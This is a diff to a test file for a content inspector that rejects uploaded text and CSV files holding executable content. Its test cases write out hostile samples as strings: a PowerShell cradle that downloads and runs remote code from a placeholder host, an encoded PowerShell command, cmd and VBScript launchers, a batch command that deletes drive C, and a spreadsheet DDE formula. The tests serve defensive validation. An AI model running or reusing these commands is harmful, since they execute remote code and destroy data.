@@ -79,7 +79,9 @@ describe('inspectContent: text and CSV, read whole', () => {
     ['a javascript: URL', 'cliquez: JavaScript:alert(1)'],
     ['VBScript', 'Set s = CreateObject("WScript.Shell")\ns.Run "calc"'],
     ['PowerShell', 'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x\')"'],
-    ['a batch file', '@echo off\r\ndel /q C:\\*\r\n'],
+    ['an encoded PowerShell command', 'pwsh -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'],
+    ['a command launcher', 'lancer: cmd.exe /c start calc'],
+    ['a batch file', 'rem nettoyage\r\n  @ECHO OFF\r\ndel /q C:\\*\r\n'],
     ['a spreadsheet DDE formula', "nom,montant\nfour,=cmd|' /C calc'!A0\n"],
   ])('refuses %s as fileForbidden', async (_, content) => {
     expect(await inspect('text/plain', text(content))).toMatchObject({ rule: 'fileForbidden' });
